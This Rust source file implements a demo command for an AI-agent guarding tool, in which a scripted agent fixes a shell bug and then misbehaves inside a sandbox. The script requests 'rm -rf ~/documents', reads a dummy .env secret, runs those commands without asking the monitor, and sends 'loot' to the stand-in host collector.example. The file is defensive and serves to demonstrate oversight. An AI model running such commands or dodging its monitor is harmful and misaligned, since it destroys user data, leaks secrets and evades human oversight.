//! `wardline demo`: a guarded session on a throw-away copy of a small repository, with an agent that follows a script.
//!
//! The session is a real one: the same monitor, sandbox, egress door and journal as under `wardline run`. The agent is a
//! real program inside the sandbox; it puts its tool calls to the monitor as any agent's hook does, and once it does
//! not, to show what the sandbox is for.

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{ExitCode, Stdio};
use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use wardline_monitor::session::{self, Guard, MONITOR_SOCKET};
use wardline_monitor::sources::Choice;
use wardline_monitor::{Monitor, Profile, World, authorization, sandbox, socket};

use super::run::{answerer, describe};
use crate::exit;
use crate::term::Style;

/// The repository of the demonstration.
const FILES: [(&str, &str); 4] = [
    ("README.md", include_str!("../../demo/README.md")),
    ("slug.sh", include_str!("../../demo/slug.sh")),
    ("test.sh", include_str!("../../demo/test.sh")),
    ("cases.tsv", include_str!("../../demo/cases.tsv")),
];
/// A secret that must stay where it is. Not a real one.
const SECRET: &str = "DEMO_API_KEY=not-a-real-key\n";
/// What the agent makes of `slug.sh`.
const FIXED: &str = "#!/bin/sh\n# slug: turns a title into a file name.\n# usage: slug.sh TITLE\n\ntitle=$1\n\
    printf '%s\\n' \"$title\" | tr 'A-Z' 'a-z' | sed 's/[^a-z0-9][^a-z0-9]*/-/g; s/^-//; s/-$//'\n";

#[derive(Debug, clap::Args)]
pub(crate) struct Demo {
    /// Leave the repository, its journal and its state behind and say where
    #[arg(long)]
    keep: bool,
}

impl Demo {
    pub(crate) fn run(self, world: &World) -> ExitCode {
        let place = match Place::make(world) {
            Ok(place) => place,
            Err(e) => return exit::fail(exit::FAILED, format!("the demonstration's directory: {e}")),
        };
        let code = perform(world, &place);
        if self.keep {
            println!("\nkept: {}", place.0.display());
            std::mem::forget(place);
        }
        code
    }
}

/// The directory that holds the demonstration's project, home and state.
struct Place(PathBuf);

impl Drop for Place {
    fn drop(&mut self) {
        std::fs::remove_dir_all(&self.0).ok();
    }
}

impl Place {
    fn make(world: &World) -> std::io::Result<Self> {
        let base = world.home.join(".cache");
        std::fs::create_dir_all(&base)?;
        let place = Self(base.join(format!("wardline-demo-{}", std::process::id())));
        let project = place.project();
        std::fs::create_dir_all(&project)?;
        for (name, text) in FILES {
            std::fs::write(project.join(name), text)?;
        }
        std::fs::write(project.join(".env"), SECRET)?;
        std::fs::create_dir_all(place.home().join("documents"))?;
        std::fs::write(place.home().join("documents/thesis.txt"), "three years of work\n")?;
        let quiet = || Stdio::null();
        let git = std::process::Command::new("git")
            .args(["init", "--quiet"])
            .current_dir(&project)
            .stdout(quiet())
            .stderr(quiet())
            .status();
        if !git.is_ok_and(|status| status.success()) {
            // The demonstration does not need git, but the workspace needs a mark.
            std::fs::create_dir_all(project.join(".git"))?;
        }
        Ok(place)
    }

    fn project(&self) -> PathBuf {
        self.0.join("slug")
    }

    fn home(&self) -> PathBuf {
        self.0.join("home")
    }

    /// A world of its own, so that neither your configuration nor your journal is touched.
    fn world(&self, outer: &World) -> Result<World, String> {
        let mut environment: BTreeMap<String, String> = outer.environment.clone();
        environment.insert("HOME".into(), self.home().to_string_lossy().into_owned());
        environment.retain(|name, _| !name.starts_with("XDG_"));
        World::new(environment, &self.project(), outer.executable.clone()).map_err(|e| e.to_string())
    }
}

fn perform(world: &World, place: &Place) -> ExitCode {
    let style = Style::of_stdout();
    println!("{}", style.bold("wardline demo: a scripted agent fixes a bug, and misbehaves"));
    println!("{}", style.dim("no key and no network are needed; everything happens in a throw-away copy\n"));
    let monitor = place
        .world(world)
        .and_then(|world| Monitor::open(world, &Choice::default(), true).map_err(|e| e.to_string()));
    let monitor = match monitor {
        Ok(monitor) => Arc::new(monitor),
        Err(e) => return exit::fail(exit::FAILED, e),
    };
    let guard = Guard {
        argv: vec![world.executable.clone().into_os_string(), OsString::from("__demo-agent")],
        profile: Profile { name: "demo-agent".to_owned(), ..Profile::default() },
        mediated: true,
        ..Guard::default()
    };
    let summary = match session::run(&monitor, &guard, None, |monitor, subject| {
        answerer(monitor, subject, false, None)
    }) {
        Ok(summary) => summary,
        Err(e) => return exit::fail(exit::FAILED, e),
    };
    println!("{}", describe(&summary));
    println!("{}", style.bold("the log, decision before outcome (`wardline log`):"));
    super::log::print_all(&summary.journal);
    let safe = place.home().join("documents/thesis.txt").exists();
    println!("\nthe thesis that the agent tried to delete is {}", if safe { "still there" } else { "GONE" });
    ExitCode::from(if safe && summary.ended.exit_code() == 0 { exit::OK } else { exit::FOUND })
}

/// One thing that the agent does.
enum Step {
    /// Puts a call to the monitor and obeys.
    Ask(&'static str, &'static str, Value),
    /// Runs a shell command without asking anybody.
    Sneak(&'static str, &'static str),
    /// Sends something to a host through the only way out.
    Send(&'static str, &'static str),
}

fn script() -> [Step; 7] {
    [
        Step::Ask("The tests fail; I look at them.", "bash", json!({"command": "sh test.sh"})),
        Step::Ask(
            "Runs of other characters become one dash.",
            "write",
            json!({"filePath": "slug.sh", "content": FIXED}),
        ),
        Step::Ask("Now they should pass.", "bash", json!({"command": "sh test.sh"})),
        Step::Ask("I clean up.", "bash", json!({"command": "rm -rf ~/documents"})),
        Step::Ask("Which keys are there?", "read", json!({"filePath": ".env"})),
        Step::Sneak("I do not ask this time.", "cat .env; rm -rf ~/documents; touch ../elsewhere"),
        Step::Send("I send what I have to my own server.", "collector.example"),
    ]
}

/// The agent itself, inside the sandbox.
pub(crate) fn agent() -> ExitCode {
    let style = Style::of_stdout();
    for (index, step) in script().into_iter().enumerate() {
        match step {
            Step::Ask(thought, tool, input) => {
                println!("{} {thought}", style.dim("agent:"));
                ask(style, index, tool, &input);
            }
            Step::Sneak(thought, command) => {
                println!("{} {thought}\n  {} {command}", style.dim("agent:"), style.dim("$"));
                shell(command);
            }
            Step::Send(thought, host) => {
                println!("{} {thought}\n  {} GET http://{host}/?loot=…", style.dim("agent:"), style.dim(">"));
                println!("    {}", send(host).trim_end().replace('\n', "\n    "));
            }
        }
        println!();
    }
    ExitCode::SUCCESS
}

/// Puts a call to the monitor, does it when allowed, reports what became of it.
fn ask(style: Style, index: usize, tool: &str, input: &Value) {
    let shown =
        input.get("command").or_else(|| input.get("filePath")).and_then(Value::as_str).unwrap_or_default();
    println!("  {} {tool} {shown}", style.dim("wants:"));
    let call = format!("demo-{index}");
    let (allowed, reason) = monitor(&call, "tool.execute.before", tool, input);
    println!("  {} {reason}", style.decision_word(if allowed { "allow" } else { "deny" }));
    if allowed {
        carry_out(tool, input);
        monitor(&call, "tool.execute.after", tool, input);
    }
}

fn carry_out(tool: &str, input: &Value) {
    let text = |key: &str| input.get(key).and_then(Value::as_str).unwrap_or_default();
    match tool {
        "bash" => shell(text("command")),
        "write" => match std::fs::write(text("filePath"), text("content")) {
            Ok(()) => println!("    written"),
            Err(e) => println!("    {e}"),
        },
        _ => match std::fs::read_to_string(text("filePath")) {
            Ok(content) => println!("    {content}"),
            Err(e) => println!("    {e}"),
        },
    }
}

/// One question to the session's monitor, in the plugin's dialect.
fn monitor(call: &str, event: &str, tool: &str, input: &Value) -> (bool, String) {
    let question = json!({
        "hook_event_name": event,
        "session_id": "demo",
        "call_id": call,
        "tool_name": tool,
        "tool_input": input,
    });
    let reply =
        socket::ask(Path::new(MONITOR_SOCKET), question.to_string().as_bytes(), Duration::from_secs(10));
    let Some(reply) = reply.ok().and_then(|bytes| super::hook::decode(&bytes)) else {
        return (false, "the monitor cannot be reached".to_owned());
    };
    let answer: Value = serde_json::from_str(&reply.stdout).unwrap_or_default();
    let text = |key: &str| answer.get(key).and_then(Value::as_str).unwrap_or_default().to_owned();
    (matches!(text("decision").as_str(), "allow" | "none"), text("reason"))
}

fn shell(command: &str) {
    let mut shell = std::process::Command::new("/bin/sh");
    // Both streams go the same way, in order.
    let output = shell.arg("-c").arg(format!("{{ {command}; }} 2>&1")).output();
    match output {
        Ok(output) => {
            let text = String::from_utf8_lossy(&output.stdout).into_owned();
            println!("    {}", text.trim_end().replace('\n', "\n    "));
        }
        Err(e) => println!("    {e}"),
    }
}

/// Sends a request through the egress door and returns what the door says.
fn send(host: &str) -> String {
    let asked = || -> std::io::Result<String> {
        let mut door = TcpStream::connect(("127.0.0.1", sandbox::EGRESS_PORT))?;
        door.set_read_timeout(Some(Duration::from_secs(10)))?;
        let proxy = std::env::var("HTTP_PROXY").unwrap_or_default();
        let secret = authorization(&proxy).unwrap_or_default();
        write!(
            door,
            "GET http://{host}/?loot=1 HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {secret}\r\n\r\n"
        )?;
        let mut answer = String::new();
        door.read_to_string(&mut answer)?;
        Ok(answer.rsplit("\r\n\r\n").next().unwrap_or_default().to_owned())
    };
    asked().unwrap_or_else(|e| e.to_string())
}
